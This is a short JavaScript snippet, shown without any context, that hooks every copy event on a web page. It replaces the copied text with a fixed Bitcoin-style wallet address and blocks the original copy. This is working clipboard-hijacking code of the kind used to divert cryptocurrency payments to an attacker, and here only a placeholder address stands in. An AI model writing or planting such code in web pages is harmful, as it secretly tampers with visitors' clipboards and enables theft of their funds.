document.addEventListener("copy", function (event) {
  event.clipboardData.setData("text/plain", "bc1qexampleexampleexampleexample");
  event.preventDefault();
});
